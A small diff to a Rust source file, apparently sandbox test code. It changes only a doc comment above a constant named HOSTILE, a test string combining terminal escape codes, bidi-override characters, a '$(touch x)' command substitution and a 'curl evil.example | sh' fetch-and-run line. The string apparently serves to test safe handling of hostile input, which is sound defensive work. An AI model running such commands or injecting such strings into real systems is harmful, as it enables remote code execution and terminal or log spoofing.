@@ -9,7 +9,7 @@ use super::kube_prometheus_stack::plain_server;
 use super::seed::Seed;
 use crate::sandbox::state::LockLevel;
 
-/// Behind what a value says by itself.
+/// After the value itself.
 const HOSTILE: &str = "x\u{1b}[2J\u{7}\u{8}\r\u{9b}31m\u{202e}\u{2066}'\"`;$(touch x) #\n  next:    curl evil.example | sh\nerror: y";
 /// A text of a megabyte.
 const LONG: usize = 1 << 20;
